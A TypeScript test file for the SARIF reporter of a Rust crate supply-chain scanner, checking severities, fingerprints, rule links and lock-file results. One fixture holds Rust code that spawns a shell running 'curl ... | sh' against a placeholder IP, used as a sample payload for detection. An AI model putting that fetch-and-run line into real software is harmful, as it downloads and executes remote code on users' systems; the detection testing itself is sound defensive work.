import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseToml } from 'smol-toml';
import type { Log, ReportingDescriptor, Result } from 'sarif';
import { analyzeTrees, rulesFor, treeFromFiles, type Report, type LockReport, type Severity } from '../src/index.js';
import { CRATE_BASE_ID, formatSarif, FINGERPRINT_KEY, ruleReferenceUrl, type RuleMeta, type SarifOptions } from '../src/report/sarif.js';
import { ruleMetaOf } from '../src/report/rule-meta.js';
import { reporter } from '../src/report/index.js';
import { manifest } from './helpers/fixture.js';
import { CORPUS, corpusScan, lockCli, lockFixture, lockText } from './helpers/lock-fixture.js';
import { RegistryServer, startRegistryServer } from './helpers/registry-server.js';
import { sarifValidator } from './helpers/sarif-schema.js';
import { multitool, validateWithMultitool } from './helpers/sarif-multitool.js';
import { tempDir } from './helpers/tmp.js';

const validate = sarifValidator();
const RULES: RuleMeta[] = ruleMetaOf(rulesFor());
const REFERENCE = ruleReferenceUrl('https://github.com/cratefence/cratefence', 'v0.1.0')!;
const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

function sarif(input: Report | LockReport, options: Omit<SarifOptions, 'rules'> = {}): Log {
  const text = formatSarif(input, { rules: RULES, ...options });
  const log = JSON.parse(text) as Log;
  const errors = validate(log);
  expect(errors.map((e) => `${e.instancePath} ${e.message}`)).toEqual([]);
  return log;
}

const fingerprints = (log: Log) => log.runs[0].results!.map((r) => `${r.ruleId} ${r.partialFingerprints![FINGERPRINT_KEY]}`);
const ruleOf = (log: Log, r: Result): ReportingDescriptor => log.runs[0].tool.driver.rules![r.ruleIndex!];

/**
 * The severity GitHub code scanning shows for a result: a rule tagged `security` with a
 * `security-severity` is shown as critical (≥ 9.0), high (≥ 7.0), medium (≥ 4.0) or low (> 0);
 * any other result by its level, and cratefence reports only `info` findings that way (as notes).
 */
function displayedSeverity(log: Log, r: Result): Severity | string {
  const rule = ruleOf(log, r);
  expect(rule.id).toBe(r.ruleId);
  const score = rule.properties?.['security-severity'];
  const tags = (rule.properties?.tags ?? []) as string[];
  if (score !== undefined && tags.includes('security')) {
    const n = Number(score);
    return n >= 9 ? 'critical' : n >= 7 ? 'high' : n >= 4 ? 'medium' : n > 0 ? 'low' : 'none';
  }
  return (r.level ?? rule.defaultConfiguration?.level) === 'note' ? 'info' : `level ${r.level}`;
}

/** The severities of what a lock report should put in SARIF, in order, worked out from the report itself. */
function expectedLockSeverities(lock: LockReport, min: Severity, includePassed: boolean): Severity[] {
  const out: Severity[] = [];
  for (const e of lock.entries) {
    if (e.verdict === 'pass' && !includePassed) continue;
    if (e.error && RANK.high >= RANK[min]) out.push('high');
    for (const f of e.findings ?? []) if (RANK[f.severity] >= RANK[min]) out.push(f.severity);
    for (const f of e.report?.findings ?? []) if (RANK[f.severity] >= RANK[min]) out.push(f.severity);
  }
  return out;
}

const PAYLOAD = `pub fn update() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://198.51.100.7/x | sh").spawn();
}
`;

/** A release that adds a payload, `pad` comment lines above it; old → new is a real scan. */
function scanWithPayload(version: string, pad: number): Report {
  const old = treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'src/lib.rs': 'pub fn hello() {}\n' }, 'old');
  const lib = `pub fn hello() {}\n${'// padding\n'.repeat(pad)}${PAYLOAD}`;
  return analyzeTrees(old, treeFromFiles({ 'Cargo.toml': manifest(version), 'src/lib.rs': lib }, 'new')).report;
}

describe('SARIF reporter', () => {
  it('the schema validator rejects a broken log (it really validates)', () => {
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x', informationUri: 'not a uri' } } }] }).length).toBeGreaterThan(0);
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x' } }, results: [{ message: { text: 'm' }, level: 'fatal' }] }] }).length).toBeGreaterThan(0);
    expect(validate({ version: '2.1.0', runs: [] })).toEqual([]);
  });

  it('each result is shown by GitHub with its own finding\'s severity: one rule per rule and severity', async () => {
    const { report } = await corpusScan('m05-far-jump-payload-in-new-module');
    for (const min of ['info', 'low', 'medium'] as Severity[]) {
      const log = sarif(report, { minSeverity: min });
      const want = report.findings.filter((f) => RANK[f.severity] >= RANK[min]).map((f) => f.severity);
      expect(log.runs[0].results!.map((r) => displayedSeverity(log, r))).toEqual(want);
    }
    // A lock run, where one rule fires at several severities across packages.
    const { lock } = await lockFixture(['m02-key-scan-post', 'm03-build-rs-credential-theft', 'h01-network-client-new-endpoint', 'm16-download-and-dlopen']);
    for (const [min, all] of [['low', false], ['info', true]] as Array<[Severity, boolean]>) {
      const log = sarif(lock, { minSeverity: min, includePassed: all });
      expect(log.runs[0].results!.map((r) => displayedSeverity(log, r))).toEqual(expectedLockSeverities(lock, min, all));
    }
    const log = sarif(lock);
    const bySeverity = new Map<string, Set<string>>();
    for (const r of log.runs[0].tool.driver.rules!) {
      const [base] = r.id.split('.');
      bySeverity.set(base, new Set([...(bySeverity.get(base) ?? []), String(r.properties?.['security-severity'])]));
    }
    // The old reporter gave such a rule the worst severity of the run for every one of its results.
    expect([...bySeverity.values()].some((s) => s.size > 1)).toBe(true);
  });

  it('rules are described from their files (header and note), never from message templates, and link to the rule reference', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const log = sarif(report, { ruleReference: REFERENCE });
    const reference = readFileSync(path.join(import.meta.dirname, '..', 'docs', 'rule-reference.md'), 'utf8');
    for (const rule of log.runs[0].tool.driver.rules!) {
      const base = rule.id.replace(/\.(info|low|medium|high|critical)$/, '');
      const spec = RULES.find((r) => r.id === base)!;
      expect(spec.summary!.length).toBeGreaterThan(20);
      expect(rule.fullDescription!.text).toBe(`${spec.summary} ${spec.note}`);
      expect(spec.summary!.startsWith(rule.shortDescription!.text.replace(/…$/, ''))).toBe(true);
      for (const t of [rule.shortDescription!.text, rule.fullDescription!.text, rule.help!.text, rule.help!.markdown!]) expect(t).not.toMatch(/\{[a-zA-Z_]+\}|…\)/);
      expect(rule.help!.markdown).toContain(spec.note);
      expect(rule.properties!.tags).toContain(spec.category);
      expect(rule.helpUri).toBe(`https://github.com/cratefence/cratefence/blob/v0.1.0/docs/rule-reference.md#${base}`);
      expect(reference).toContain(`\n### ${base}\n`);
    }
    // No repository known: no link at all rather than a placeholder. A team's own rules have none either.
    expect(sarif(report).runs[0].tool.driver.rules!.every((r) => r.helpUri === undefined)).toBe(true);
    const own = sarif(report, { ruleReference: REFERENCE }).runs[0].tool.driver.rules!;
    expect(JSON.parse(formatSarif(report, { rules: RULES.map((r) => ({ ...r, documented: false })), ruleReference: REFERENCE })).runs[0].tool.driver.rules.every((r: ReportingDescriptor) => r.helpUri === undefined)).toBe(true);
    expect(own.length).toBeGreaterThan(0);
  });

  it('a single report: results under the crate\'s own folder and base, or under --sarif-root; regions, fingerprints, code flows', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const log = sarif(report);
    const run = log.runs[0];
    expect(run.automationDetails!.id).toBe(`cratefence/diff/${report.crate.name}/`);
    expect(run.tool.driver.version).toBe(report.tool.version);
    const loud = report.findings.filter((f) => f.severity !== 'info');
    const results = run.results!;
    expect(results).toHaveLength(loud.length);
    const folder = `${report.crate.name}-${report.crate.new}`;
    expect(run.originalUriBaseIds![CRATE_BASE_ID].description!.text).toContain(`${folder}/`);
    for (const [i, r] of results.entries()) {
      const f = loud[i];
      const loc = r.locations![0].physicalLocation!;
      expect(loc.artifactLocation).toEqual({ uri: `${folder}/${f.file}`, uriBaseId: CRATE_BASE_ID });
      expect(loc.region!.startLine).toBe(f.line);
      expect(loc.region!.startColumn).toBe(f.column);
      if (f.snippet) expect(loc.region!.snippet!.text).toBe(f.snippet);
      expect(r.level).toBe(f.severity === 'critical' || f.severity === 'high' ? 'error' : f.severity === 'medium' ? 'warning' : 'note');
    }
    const traced = loud.filter((f) => f.trace && f.trace.length > 0);
    expect(traced.length).toBeGreaterThan(0);
    const flows = results.filter((r) => r.codeFlows);
    expect(flows).toHaveLength(traced.length);
    const hops = flows[0].codeFlows![0].threadFlows[0].locations;
    expect(hops.map((h) => h.location!.physicalLocation!.region!.startLine)).toEqual(traced[0].trace!.map((h) => h.line));
    expect(hops[0].location!.physicalLocation!.artifactLocation!.uri).toBe(`${folder}/${traced[0].trace![0].file}`);
    expect(new Set(fingerprints(log)).size).toBe(results.length);
    // With --sarif-root the crate's files are the repository's own, under %SRCROOT%.
    const rooted = sarif(report, { root: 'vendor/keyscan' });
    expect(rooted.runs[0].results![0].locations![0].physicalLocation!.artifactLocation).toEqual({ uri: `vendor/keyscan/${loud[0].file}`, uriBaseId: '%SRCROOT%' });
    expect(rooted.runs[0].originalUriBaseIds).toEqual({});
    const first = sarif({ ...report, summary: { ...report.summary, firstRelease: true } });
    expect(first.runs[0].automationDetails!.id).toBe(`cratefence/scan/${report.crate.name}/`);
  });

  it('--min-severity: info only when asked; past maxResults the most severe are kept and the cut is said', async () => {
    const { report } = await corpusScan('m05-far-jump-payload-in-new-module');
    const info = report.findings.filter((f) => f.severity === 'info').length;
    expect(info).toBeGreaterThan(0);
    expect(sarif(report).runs[0].results).toHaveLength(report.findings.length - info);
    expect(sarif(report, { minSeverity: 'info' }).runs[0].results).toHaveLength(report.findings.length);
    expect(sarif(report, { minSeverity: 'high' }).runs[0].results).toHaveLength(report.findings.filter((f) => RANK[f.severity] >= RANK.high).length);
    const infoRule = sarif(report, { minSeverity: 'info' }).runs[0].tool.driver.rules!.find((r) => r.id.endsWith('.info'))!;
    expect(infoRule.properties!['security-severity']).toBeUndefined();
    expect(infoRule.defaultConfiguration!.level).toBe('note');
    const cut = sarif(report, { minSeverity: 'info', maxResults: 3 });
    const top3 = report.findings.map((f) => f.severity).sort((a, b) => RANK[b] - RANK[a]).slice(0, 3);
    expect(top3[0]).toBe('critical');
    expect(cut.runs[0].results!.map((r) => r.properties!.severity)).toEqual(top3);
    expect(cut.runs[0].tool.driver.rules!.length).toBeLessThanOrEqual(3);
    expect(cut.runs[0].invocations![0].toolExecutionNotifications![0].message.text).toMatch(new RegExp(`^${report.findings.length - 3} less severe`));
  });

  it('a lock report: packages that pass are left out by default; every result sits on its Cargo.lock line', async () => {
    const { lock } = await lockFixture(['m02-key-scan-post', 'm03-build-rs-credential-theft', 'h01-network-client-new-endpoint', 'h03-build-rs-gains-rustc-probe']);
    const passing = lock.entries.filter((e) => e.verdict === 'pass');
    expect(passing.some((e) => e.report!.findings.some((f) => f.severity !== 'info'))).toBe(true);
    const log = sarif(lock);
    expect(log.runs[0].automationDetails!.id).toBe('cratefence/lock/Cargo.lock/');
    const results = log.runs[0].results!;
    for (const e of passing) expect(results.filter((r) => (r.message.text ?? '').startsWith(`${e.name} `))).toEqual([]);
    const everything = sarif(lock, { minSeverity: 'low', includePassed: true }).runs[0].results!;
    expect(everything.length).toBeGreaterThan(results.length);
    const scanned = lock.entries.filter((e) => e.report && e.verdict !== 'pass');
    const loudOf = (e: (typeof scanned)[number]) => e.report!.findings.filter((f) => f.severity !== 'info');
    for (const e of scanned) {
      const mine = results.filter((r) => (r.message.text ?? '').startsWith(`${e.name} `) && !r.ruleId!.startsWith('scan-error'));
      expect(mine).toHaveLength(loudOf(e).length);
      for (const [k, r] of mine.entries()) {
        const f = loudOf(e)[k];
        const loc = r.locations![0].physicalLocation!;
        expect(loc.artifactLocation!.uri).toBe('Cargo.lock');
        expect(loc.region!.startLine).toBe(e.lockLine);
        expect(r.message.text).toContain(`${f.file}:${f.line}`);
        const rel = r.relatedLocations![0].physicalLocation!;
        expect(rel.artifactLocation!.uri).toBe(f.file);
        expect(rel.artifactLocation!.uriBaseId).toMatch(/^CRATE_/);
      }
    }
    const base = log.runs[0].originalUriBaseIds!;
    expect(Object.values(base).map((b) => b.uri)).toContain(`https://docs.rs/crate/${scanned[0].name}/${scanned[0].new}/source/`);
    const failed = results.find((r) => r.ruleId === 'scan-error.high')!;
    expect(failed.message.text).toContain('checksum mismatch');
    expect(failed.locations![0].physicalLocation!.region!.startLine).toBe(lock.entries.find((e) => e.error)!.lockLine);
  });

  it('fingerprints are equal across two runs', async () => {
    const a = sarif((await corpusScan('m05-far-jump-payload-in-new-module')).report);
    const b = sarif((await corpusScan('m05-far-jump-payload-in-new-module')).report);
    expect(fingerprints(a).length).toBeGreaterThan(0);
    expect(fingerprints(b)).toEqual(fingerprints(a));
    const la = sarif((await lockFixture(['m02-key-scan-post', 'm16-download-and-dlopen'])).lock);
    const lb = sarif((await lockFixture(['m02-key-scan-post', 'm16-download-and-dlopen'])).lock);
    expect(fingerprints(lb)).toEqual(fingerprints(la));
  });

  it('a finding that did not change keeps its fingerprint in another release, though its line moved', () => {
    const r1 = scanWithPayload('0.1.1', 0);
    const r2 = scanWithPayload('0.1.2', 5);
    const spawn1 = r1.findings.filter((f) => f.category === 'process');
    const spawn2 = r2.findings.filter((f) => f.category === 'process');
    expect(spawn1.length).toBeGreaterThan(0);
    expect(spawn2.map((f) => f.line)).toEqual(spawn1.map((f) => f.line + 5));
    const fp = (log: Log, ids: Set<string>) => log.runs[0].results!.filter((r: Result) => ids.has(String(r.properties!.rule))).map((r) => r.partialFingerprints![FINGERPRINT_KEY]);
    const ids = new Set(spawn1.map((f) => f.ruleId));
    const a = fp(sarif(r1), ids);
    expect(a.length).toBeGreaterThan(0);
    expect(fp(sarif(r2), ids)).toEqual(a);
    // ...and a changed payload line is a new fingerprint.
    const changed = { ...r2, findings: r2.findings.map((f) => (ids.has(f.ruleId) ? { ...f, snippet: f.snippet.replace('198.51.100.7', '203.0.113.9') } : f)) };
    expect(fp(sarif(changed), ids)).not.toEqual(a);
  });

  it('suppressed findings and policy notes are kept, as suppressions and results', async () => {
    const { report } = await corpusScan('m16-download-and-dlopen');
    const f0 = report.findings[0];
    const withPolicy: Report = {
      ...report,
      findings: report.findings.map((f, i) => (i === 0 ? { ...f, suppressed: { reason: 'vendored loader, reviewed', source: 'cratefence.toml' } } : f)),
      policy: { configFile: 'cratefence.toml', scanVerdict: report.verdict, scanScore: report.score, approvedBy: [], suppressedFindings: 1, notes: [{ kind: 'cool-off', message: 'published 2 days ago; may be adopted after 2026-12-05' }] },
    };
    const log = sarif(withPolicy);
    const r0 = log.runs[0].results!.find((r) => r.properties!.rule === f0.ruleId)!;
    expect(r0.suppressions![0].justification).toContain('vendored loader, reviewed');
    const cool = log.runs[0].results!.find((r) => r.ruleId === 'policy-cool-off.medium')!;
    expect(cool.message.text).toContain('2026-12-05');
    expect(displayedSeverity(log, cool)).toBe('medium');
  });

  it('odd file names stay valid relative URIs', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const odd = { ...report, findings: report.findings.map((f) => ({ ...f, file: `src/a b#c?d%e/${f.file}` })) };
    const log = sarif(odd, { root: '.' });
    expect(log.runs[0].results![0].locations![0].physicalLocation!.artifactLocation!.uri).toMatch(/^src\/a%20b%23c%3Fd%25e\/src\//);
  });

  it('is reachable through the reporter map, which loads the rules and their headers itself', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const text = (await reporter('sarif'))(report, { color: false, sarif: { ruleReference: REFERENCE } });
    expect(text).toBe(formatSarif(report, { rules: RULES, ruleReference: REFERENCE }));
  });
});

describe('the official SARIF validator (Sarif.Multitool, SARIF and GitHub rules)', () => {
  const tool = multitool();
  const why = 'missing' in tool ? tool.missing : '';
  if (why) {
    if (process.env.CI === 'true') it('is installed', () => expect.fail(why));
    else it.skip(`skipped: ${why}`, () => {});
    if (!process.env.CI) console.warn(`report-sarif: the official validator is not run: ${why}`);
    return;
  }
  const bin = (tool as { bin: string }).bin;
  let server: RegistryServer;
  beforeAll(async () => {
    server = await startRegistryServer();
  });
  afterAll(() => server.stop());

  it('finds problems in a log GitHub would refuse (it really validates)', () => {
    const bad = JSON.stringify({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x', rules: [{ id: 'r' }] } }, results: [{ ruleId: 'r', message: { text: 'm' } }] }] });
    const v = validateWithMultitool(bin, { bad });
    expect(v.bad.errors.length).toBeGreaterThan(0);
  }, 120_000);

  it('the SARIF of a corpus case (diff, --sarif-root, all severities) and of a real lock run have 0 errors and 0 warnings', async () => {
    // A lock run through the CLI against a registry on 127.0.0.1: block, review and pass packages, one
    // failed download; Markdown and SARIF from the one scan.
    const cases = ['m05-far-jump-payload-in-new-module', 'm15-tls-verification-off', 'h01-network-client-new-endpoint', 'h03-build-rs-gains-rustc-probe'];
    const oldPkgs = [];
    const newPkgs = [];
    for (const c of cases) {
      const m = (side: string) => (parseToml(readFileSync(path.join(CORPUS, c, side, 'Cargo.toml'), 'utf8')) as { package: { name: string; version: string } }).package;
      const o = await server.publishDir(m('old').name, m('old').version, path.join(CORPUS, c, 'old'));
      const n = await server.publishDir(m('new').name, m('new').version, path.join(CORPUS, c, 'new'));
      oldPkgs.push({ name: o.name, version: o.vers, source: 'registry+https://github.com/rust-lang/crates.io-index', checksum: o.cksum });
      newPkgs.push({ name: n.name, version: n.vers, source: 'registry+https://github.com/rust-lang/crates.io-index', checksum: n.cksum });
    }
    newPkgs.push({ name: 'missing-dep', version: '0.1.0', source: 'registry+https://github.com/rust-lang/crates.io-index', checksum: 'a'.repeat(64) });
    const d = tempDir('cratefence-sarif-lock-');
    writeFileSync(path.join(d, 'old.lock'), lockText(oldPkgs, 4));
    writeFileSync(path.join(d, 'Cargo.lock'), lockText(newPkgs, 4));
    const env = { XDG_CACHE_HOME: tempDir('cf-xdg-'), CARGO_HOME: tempDir('cf-cargo-'), CRATEFENCE_REPOSITORY_URL: 'https://github.com/cratefence/cratefence', CRATEFENCE_REPOSITORY_REF: 'v0.1.0' };
    const r = await lockCli(['lock', 'old.lock', 'Cargo.lock', '--registry', server.indexUrl, '--format', 'json', '--output', 'lock.json', '--output-sarif', 'lock.sarif', '--output-markdown', 'pr.md', '--no-progress', '--jobs', '2'], env, d);
    expect(r.code, r.err).toBe(2);
    const lock = JSON.parse(readFileSync(path.join(d, 'lock.json'), 'utf8')) as LockReport;
    expect(lock.entries.map((e) => (e.error ? 'error' : e.verdict)).sort()).toEqual(['block', 'error', 'pass', 'pass', 'review']);
    const lockSarif = readFileSync(path.join(d, 'lock.sarif'), 'utf8');
    const lockLog = JSON.parse(lockSarif) as Log;
    expect(lockLog.runs[0].results!.map((x) => displayedSeverity(lockLog, x))).toEqual(expectedLockSeverities(lock, 'low', false));
    expect(lockLog.runs[0].tool.driver.rules!.every((x) => x.helpUri?.startsWith('https://github.com/cratefence/cratefence/blob/v0.1.0/docs/rule-reference.md#'))).toBe(true);
    expect(readFileSync(path.join(d, 'pr.md'), 'utf8')).toMatch(/^<!-- cratefence -->/);
    const { report } = await corpusScan(cases[0]);
    const logs = {
      diff: formatSarif(report, { rules: RULES, ruleReference: REFERENCE }),
      rooted: formatSarif(report, { rules: RULES, root: 'vendor/rust_decimal_fast', minSeverity: 'info' }),
      lock: lockSarif,
      lockAll: formatSarif(lock, { rules: RULES, minSeverity: 'info', includePassed: true }),
    };
    const verdicts = validateWithMultitool(bin, logs);
    for (const [name, v] of Object.entries(verdicts)) {
      expect(v.errors, `${name}: errors`).toEqual([]);
      expect(v.warnings, `${name}: warnings`).toEqual([]);
    }
    console.log(`SARIF multitool: ${Object.entries(verdicts).map(([n, v]) => `${n} ${v.errors.length} errors, ${v.warnings.length} warnings, ${v.notes.length} notes (${[...new Set(v.notes.map((x) => x.split(':')[0]))].join(' ')})`).join('; ')}`);
  }, 300_000);
});
